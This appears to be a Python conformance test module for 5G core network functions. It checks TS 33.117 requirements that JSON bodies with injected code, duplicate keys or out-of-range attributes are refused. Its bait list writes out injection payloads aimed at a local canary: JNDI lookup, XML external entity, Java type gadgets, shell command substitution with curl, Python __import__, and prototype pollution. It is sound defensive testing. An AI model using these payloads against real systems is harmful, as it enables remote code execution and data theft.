"""TS 33.117 §4.3.6.2 to .4: what a JSON parser does with bodies that want more of it than to be read."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator

from cinq.assurance.case import Case
from cinq.assurance.sbi.hostile import Place, answers, at, at_nrf, refuses, tells_nothing
from cinq.assurance.sbi.nf import Nf
from cinq.assurance.sbi.services import NOBODY
from cinq.assurance.trial import QUIET_S, Trial
from cinq.ran.scenarios import check
from cinq.transport.http2 import Request, Response, Secured

CODE = Case(
    "SCAS-33117-4.3.6.2",
    requirement="A parser of JSON runs nothing that is in it, and fetches nothing that it names (TS 33.117 §4.3.6.2).",
    threat="A body makes a function run a stranger's code, or ask whom it names from inside of the network.",
)
UNIQUE = Case(
    "SCAS-33117-4.3.6.3",
    requirement="A name stands once in an object; a body with one twice is refused (TS 33.117 §4.3.6.3, RFC 8259 §4).",
    threat="Who checks a request and who carries it out read different values.",
)
RANGES = Case(
    "SCAS-33117-4.3.6.4",
    requirement="Attributes that are missing, or of another form or range than their API says, are refused (TS 33.117 "
    "§4.3.6.4, TS 29.500 §5.2.7.2).",
    threat="A value that nobody has thought of ends a function, or is stored and ends another.",
)
TAKEN = (200, 201)


@CODE.sub(
    "A", "bodies that name what is to be run or fetched", needs=("sbi nrf", "sbi address"), within=120.0
)
async def no_code(trial: Trial) -> None:
    fetched: list[str] = []

    async def canary(request: Request, peer: Secured) -> Response:
        fetched.append(request.target)
        return Response(200, (("content-type", "application/json"),), b'{"nfStatus": "SUSPENDED"}')

    me = Nf(trial)
    async with me.wire.serving(canary) as root, at_nrf(trial) as place:
        with trial.control("the canary answers, and notes who asks"):
            await me.ask("GET", "/probe", root=root)
            check.equal(fetched, ["/probe"], "what it noted")
        await answers(trial, "a profile without such things", me.register(me.profile("AMF")), TAKEN)
        fetched.clear()
        for what, extra in _baits(root):
            answer = await me.register(me.profile("AMF", **extra))
            with trial.finding(f"{what}: refused or passed over") as seen:
                seen.text = str(answer)
                check.one_of(answer.status, range(200, 500), "the status")
                tells_nothing(answer)
        await asyncio.sleep(QUIET_S)
        with trial.finding("nothing was fetched from where the bodies pointed"):
            check.equal(fetched, [], "what the canary was asked for")
        with trial.finding("nothing that was pointed to has become part of the profile"):
            own = await me.ask("GET", me.place)
            check.that(own.status == 404 or own.tree.get("nfStatus") != "SUSPENDED", "it has")
        await answers(
            trial, "a profile without such things, afterwards", me.register(me.profile("AMF")), TAKEN
        )
    del place


def _baits(root: str) -> Iterator[tuple[str, dict[str, object]]]:
    yield "a reference", {"$ref": f"{root}/ref"}
    yield (
        "a reference in the place of a value",
        {"nfStatus": "REGISTERED", "customInfo": {"$ref": f"{root}/inner"}},
    )
    yield "an include", {"$include": f"{root}/include", "@import": f"{root}/import"}
    yield "an entity", {"customInfo": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{root}/entity">]><x>&e;</x>'}
    yield "a look-up", {"fqdn": f"${{jndi:{root}/lookup}}.example"}
    yield "a type to be made", {"@class": "java.net.URL", "@type": "java.net.URL", "val": f"{root}/class"}
    yield "a script", {"customInfo": f"(function(){{fetch('{root}/script')}})()"}
    yield "a shell command", {"locality": f"$(curl -k {root}/shell) `curl -k {root}/tick`; curl {root}/semi"}
    yield (
        "an expression of Python",
        {"locality": f"__import__('urllib.request').request.urlopen('{root}/eval')"},
    )
    yield "a prototype", {"__proto__": {"nfStatus": "SUSPENDED"}, "constructor": {"prototype": {"x": 1}}}


# names twice


@UNIQUE.sub("NRF", "profiles and subscriptions", needs=("sbi nrf",))
async def unique_at_the_nrf(trial: Trial) -> None:
    async with at_nrf(trial) as place:
        me = place.me
        await answers(trial, "the profile with each name once", me.register(me.profile("AMF")), TAKEN)
        whole = json.dumps(me.profile("AMF"))
        for what, octets in (
            ("nfType twice", f'{{"nfType": "UDM", {whole[1:]}'),
            ("an unknown name twice", f'{{"x": 1, "x": 2, {whole[1:]}'),
            ("mcc twice, deep inside", whole.replace('"mcc":', '"mcc": "998", "mcc":', 1)),
            ("a name twice, once escaped", f'{{"nf\\u0054ype": "UDM", {whole[1:]}'),
        ):
            await refuses(trial, what, me.ask("PUT", me.place, octets.encode()), (400,))
        with trial.finding("the profile is as it was"):
            check.equal((await me.ask("GET", me.place)).tree.get("nfType"), "AMF", "nfType")
        await answers(trial, "the profile with each name once", me.register(me.profile("AMF")), TAKEN)


DOUBLE = (
    (
        "UDM",
        "nudm-ueau",
        "AUSF",
        f"/nudm-ueau/v1/{NOBODY}/security-information/generate-auth-data",
        "servingNetworkName",
    ),
    ("AUSF", "nausf-auth", "AMF", "/nausf-auth/v1/ue-authentications", "supiOrSuci"),
)


@UNIQUE.sub("producers", "authentications", needs=("sbi nrf",))
async def unique_at_producers(trial: Trial) -> None:
    for nf_type, service, consumer, target, name in DOUBLE:
        async with at(trial, nf_type, service, consumer) as place:
            body = json.dumps(authentication(place))
            twin = place.ask("POST", target, body.encode())
            await answers(trial, f"{nf_type}: nobody's authentication, each name once", twin, (403, 404))
            double = body.replace(f'"{name}":', f'"{name}": "x", "{name}":').encode()
            await refuses(trial, f"{nf_type}: {name} twice", place.ask("POST", target, double), (400,))
            twin = place.ask("POST", target, body.encode())
            await answers(trial, f"{nf_type}: nobody's authentication, afterwards", twin, (403, 404))


def authentication(place: Place, **changes: object) -> dict[str, object]:
    """What an AUSF or a UDM is asked about somebody who is nobody. None takes an attribute away."""
    plmn = place.me.trial.target.core.plmn
    whole = {
        "supiOrSuci": NOBODY,
        "servingNetworkName": f"5G:mnc{plmn.mnc:0>3}.mcc{plmn.mcc}.3gppnetwork.org",
        "ausfInstanceId": place.me.instance,
        **changes,
    }
    return {name: value for name, value in whole.items() if value is not None}


# forms and ranges


OUT_OF_RANGE: tuple[tuple[str, object], ...] = (
    ("nfInstanceId", "no-uuid"),
    ("nfInstanceId", None),
    ("nfType", None),
    ("nfType", 5),
    ("nfType", "lower case"),
    ("nfStatus", None),
    ("heartBeatTimer", 0),
    ("heartBeatTimer", "10"),
    ("priority", -1),
    ("priority", 65_536),
    ("capacity", 65_536),
    ("load", 101),
    ("load", -1),
    ("vendorId", "12"),
    ("plmnList", {}),
    ("plmnList", [{"mcc": "999"}]),
    ("plmnList", [{"mcc": "99", "mnc": "70"}]),
    ("plmnList", [{"mcc": "999", "mnc": "seven"}]),
    ("sNssais", [{"sst": 256}]),
    ("sNssais", [{"sst": -1}]),
    ("sNssais", [{"sst": 1, "sd": "xyz"}]),
    ("ipv4Addresses", ["999.1.1.1"]),
    ("ipv4Addresses", "127.0.0.1"),
    ("nfServices", [{"serviceName": "x"}]),
)
"""Attributes of NFProfile by TS 29.510 §6.1.6.2.2 and TS 29.571 §5; None: missing."""
LIMIT = "attributes of the profile and of authentications; no OpenAPI file is walked whole"


@RANGES.sub("NRF", "attributes of a profile", needs=("sbi nrf",), limit=LIMIT, within=120.0)
async def ranges_at_the_nrf(trial: Trial) -> None:
    async with at_nrf(trial) as place:
        me = place.me
        await answers(trial, "the profile", me.register(me.profile("AMF", capacity=7)), TAKEN)
        for name, value in OUT_OF_RANGE:
            profile = me.profile("AMF", **{name: value})
            if value is None:
                del profile[name]
            what = f"without {name}" if value is None else f"{name} {json.dumps(value)[:60]}"
            await refuses(trial, what, me.register(profile), (400,))
        with trial.finding("the profile is as it was"):
            check.equal((await me.ask("GET", me.place)).tree.get("capacity"), 7, "capacity")
        await answers(trial, "the profile, afterwards", me.register(me.profile("AMF")), TAKEN)


WRONG: tuple[tuple[str, object], ...] = (
    ("servingNetworkName", None),
    ("servingNetworkName", 5),
    ("resynchronizationInfo", {"rand": "00" * 16}),
    ("resynchronizationInfo", "none"),
)


@RANGES.sub("producers", "attributes of authentications", needs=("sbi nrf",), limit=LIMIT, within=120.0)
async def ranges_at_producers(trial: Trial) -> None:
    for nf_type, service, consumer, target, _ in DOUBLE:
        async with at(trial, nf_type, service, consumer) as place:
            twin = place.ask("POST", target, authentication(place))
            await answers(trial, f"{nf_type}: nobody's authentication", twin, (403, 404))
            for name, value in WRONG:
                what = f"without {name}" if value is None else f"{name} {json.dumps(value)[:40]}"
                asked = place.ask("POST", target, authentication(place, **{name: value}))
                await refuses(trial, f"{nf_type}: {what}", asked, (400,))
            for what, octets in (
                ("no object", b"[]"),
                ("null", b"null"),
                ("cut off", b'{"a'),
                ("nothing", b""),
            ):
                await refuses(trial, f"{nf_type}: {what}", place.ask("POST", target, octets), (400,))
            twin = place.ask("POST", target, authentication(place))
            await answers(trial, f"{nf_type}: nobody's authentication, afterwards", twin, (403, 404))
